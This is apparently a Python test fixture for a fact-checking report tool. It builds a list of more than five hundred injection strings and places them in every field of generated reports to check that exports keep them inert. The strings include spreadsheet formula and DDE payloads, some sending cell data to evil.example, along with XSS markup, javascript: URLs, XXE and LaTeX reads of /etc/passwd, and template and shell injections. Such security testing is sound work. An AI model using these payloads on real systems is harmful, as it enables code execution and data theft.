"""More than five hundred texts with which somebody could attack whoever opens a report, and a report that holds them everywhere.

Each is words to us: it must stand in the file as it is and do nothing.
"""

import itertools
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime

from claimdesk.core.claim import Article, Claim, Link, LinkKind, Original, Review, Span
from claimdesk.core.evidence import AnonymityCheck, Evidence, EvidenceKind, Reply, Stance, Verdict
from claimdesk.core.levels import LEVELS
from claimdesk.core.reports import Report, build
from claimdesk.core.sources import Source
from claimdesk.core.text import normalise

_FORMULA_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "\0=", "\x01=", "＝", "＋", "－", "＠",
    "﹦", "'=", '"=', ";=", ",=", '",="', "=-", "=+", "%=", "\u2028=", "\u202e=", "|=",
)  # fmt: skip
_FORMULAS = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', "1+1", 'WEBSERVICE("http://evil.example/"&A1)',
    'DDE("cmd";"/C calc";"x")', "'file:///etc/passwd'#$passwd.A1",
)  # fmt: skip
_BREAKS = ("", '">', "'>", "</style>", "</title>", "-->", "]]>", "</bdi>", "</td></tr>", "\u202e", "&lt;")
_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>", "<form action=//evil.example><input>", "<style>@import '//evil.example'</style>",
    "<object data=//evil.example>", "<math><mtext><img src=x>", "<svg><use href=//evil.example#x>",
    '<p style="background:url(//evil.example)">', "<details open ontoggle=alert(1)>", "<![CDATA[<b>]]>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "javascript://evil.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)", "file:///etc/passwd", "\\\\evil.example\\share\\x", "//evil.example/x", "smb://evil.example/x",
    "http://evil.example/\" onclick=alert(1) x=\"", "https://evil.example/><script>alert(1)</script>", "http:javascript:alert(1)",
    "mailto:x@evil.example?bcc=y", "tel:+123", "ms-excel:ofe|u|http://evil.example", "internal:Summary!A1", "external:c:\\x.xlsx",
    "www.evil.example/x", "ftp://evil.example", "x@evil.example", "blob:https://evil.example/1", "view-source:http://x",
    "https://evil.example/\u202egpj.exe", "https://evil.example/a b", "#claim-1", "https:// evil.example", "http://[::1]/",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "[x](http://evil.example)", "<http://evil.example>",
    "<javascript:alert(1)>", "[x]: http://evil.example", "[^1]: other", "[^1]", "(javascript:alert(1))", "[x][^1]", "``` \n<b>\n```",
    "~~~\nx\n~~~", "    <b>code</b>", "\t<b>code</b>", "# Claims", "## Provenance", "Title\n===", "Title\n---", "---", "***", "- x", "+ x",
    "* x", "1. x", "7) x", "> x", "| a | b |\n|---|---|\n| c | d |", "**bold**", "__bold__", "~~gone~~", "`code`", "``a`b``", "a\\\nb",
    "a  \nb", "\\", "\\\\", "\\<b>", "&lt;b&gt;", "&#60;script&#62;", "&colon;", "$$x^2$$", ":smile:", "@everyone", "==mark==",
    "%%gone%%", "{#id .class onclick=x}", "::: warning", "[[wiki]]", "![[embed]]", "<!-- gone -->", "x\n\n\n# y", "---\ntitle: x\n---",
)  # fmt: skip
_SETTING = (
    '#eval("1+1")', '#read("/etc/passwd")', '#import "@preview/x:1.0.0"', '#link("file:///etc/passwd")[x]', '#image("/etc/passwd")',
    "$ x^2 $", "= Heading", "<claim-1>", "@claim-1", "#show: none", "#panic()", "#let x = 1", "#set page(width: 1pt)", "/* x", "// x",
    "\\input{/etc/passwd}", "\\write18{calc}", "\\immediate\\write18{calc}", "\\href{http://evil.example}{x}", "\\end{document}",
    "\\newcommand{\\x}{\\x\\x}\\x", "^^5cinput", "\\catcode`\\@=11", "%", "~", "\\verb|x|",
)  # fmt: skip
_PLACEHOLDERS = (
    "{{ 7 * 7 }}", "{{ report.__class__ }}", "{% include '/etc/passwd' %}", "{# gone #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "%(x)s",
    "{0}", "%s%n", "$(calc)", "`calc`", "; calc", "&& calc", "../../etc/passwd", "..\\..\\x", "CON", "\x1b]0;x\x07", "\x1b[31mred",
)  # fmt: skip
_XML = (
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;', "&a;", "&#0;", "&#x41;", "&amp;lt;", "<?xml version='1.0'?>",
    "<?xml-stylesheet href='//evil.example'?>", "_x0041_", "_x0000_", "<w:instrText>DDEAUTO c:\\calc</w:instrText>",
    '{ HYPERLINK "http://evil.example" }', "DDEAUTO c:\\windows\\system32\\cmd.exe", 'INCLUDETEXT "/etc/passwd"', "\x13 PAGE \x15",
    "<xi:include href='file:///etc/passwd'/>", "<text:script/>", '"}],"@context":"http://evil.example"', '","x":"', "\\u0000", "\\",
    "</script><script>alert(1)</script>", "<x xmlns='http://evil.example'/>", "&A&R&P", '&"Wingdings"x', "&G",
)  # fmt: skip
_LETTERS = (
    *(f"a{chr(code)}b" for code in (*range(32), 0x7F, 0x80, 0x85, 0x90, 0x9B, 0x9F, 0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE)),
    "a\ud800b", "\udfff", "\udcff\ud83d", "\ud83d", *(f"a{chr(code)}b" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    "\u202e" * 200 + "gpj", "\u2067" * 130 + "x", "\u2069" * 20 + "x", "\u202c" * 20 + "x", "x\u2066\u202ey\u2069\u202cz",
    "\u200b" * 300, "\u200d\u200c\u2060\ufeff", "a\u00adb", "e" + "\u0301" * 300, "\u0301", "Z͑ͫ̓ͪ̂ͫ̽a̴̵̵l̸̨g̷̛ơ̶̳" * 20, "\U000e0041\U000e007f",
    "\ufff9a\ufffab\ufffb", "\u2028\u2029", "\u3164", "\u115f", "W" * 3000, "한" * 2000, "नमस्ते" * 300, "العربية" * 300, "👩‍👩‍👧" * 100, "🇰🇷🇮🇳",
    "नदी का पानी", "한강의 수위", "مياه النهر", "שלום", "\u0600\u06dd", "ﷺ", "ẞßſ", "İi̇", "\U0010ffff", "…", "\u2400",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *map("".join, itertools.product(_FORMULA_STARTS, _FORMULAS)),
            *map("".join, itertools.product(_BREAKS, _MARKUP)),
            *_ADDRESSES, *_MARKDOWN, *_SETTING, *_PLACEHOLDERS, *_XML, *_LETTERS,
        ]
    )
)  # fmt: skip

_OPENING = "The gates opened 🌊."


def attacked(payloads: Sequence[str], head: str = "") -> Report:
    """A report in which each payload stands in every field of a claim of its own, `head` in all that is said of the article."""
    return _report([(payload, itertools.repeat(payload)) for payload in payloads], payloads, head)


def scattered(payloads: Sequence[str]) -> Report:
    """A report in which each payload stands in one field of some claim, or in the article."""
    fields = iter(payloads)
    return _report([(first, itertools.chain(fields, itertools.repeat("x"))) for first in fields], payloads[::20], "")


def _report(claims: Iterable[tuple[str, Iterator[str]]], sources: Sequence[str], head: str) -> Report:
    """A report with a claim for each content with what fills the claim's fields, one after the other."""
    text, made = _OPENING, []
    for number, (content, fields) in enumerate(claims, 1):
        shown = normalise(f".{content}")[1:] or "-"
        start = len(text) + 2
        text += f"\n\n{shown} said."
        made.append(_claim(number, Span(start, start + len(shown)), fields))
    article = Article(
        text, head or "The gates", head or "en", id=1, outlet=head, byline=head, published=head, url=head, filename=head,
        imported_at=head, retrieved_at=head,
    )  # fmt: skip
    return build(
        article, made, suggestions=True, made_at=datetime(2031, 3, 4, tzinfo=UTC), version="0.1.0", suggester=head, checker=head,
        head="ab" * 32, register=tuple(_sources(sources)), original=Original("cd" * 32, 12, head or "text/plain"),
    )  # fmt: skip


def _claim(number: int, place: Span, fields: Iterator[str]) -> Claim:
    """A claim of which every field that holds words is filled."""
    claim = Claim(
        number,
        1,
        (place,),
        (place,),
        (place,),
        LEVELS[number % len(LEVELS)].slug,
        Review.ACCEPTED if number % 5 else Review.SUGGESTED,
    )
    found = Evidence(
        EvidenceKind.URL, next(fields), next(fields), Stance.REFUTES, next(fields), next(fields), next(fields), next(fields),
        next(fields), note=next(fields),
    )  # fmt: skip
    return replace(
        claim, source_name=next(fields), via=(next(fields),), second_sources=(next(fields),), reason=next(fields),
        note=next(fields), restated=next(fields), tags=(next(fields),), question=next(fields), rationale=next(fields),
        checked_by=next(fields), checked_at=next(fields), verdict=Verdict.REFUTED, evidence=(found,),
        replies=(Reply(next(fields), next(fields), next(fields), next(fields), next(fields)),),
        anonymity=(AnonymityCheck.MOTIVE,), links=(Link(LinkKind.DENIES, number - 1),) if number > 1 else (),
    )  # fmt: skip


def _sources(payloads: Sequence[str]) -> Iterator[Source]:
    """The register, in which each payload is a name, a role and an affiliation."""
    for number, payload in enumerate(payloads, 1):
        if payload.strip():
            yield Source(number, payload, role=payload, affiliation=payload)
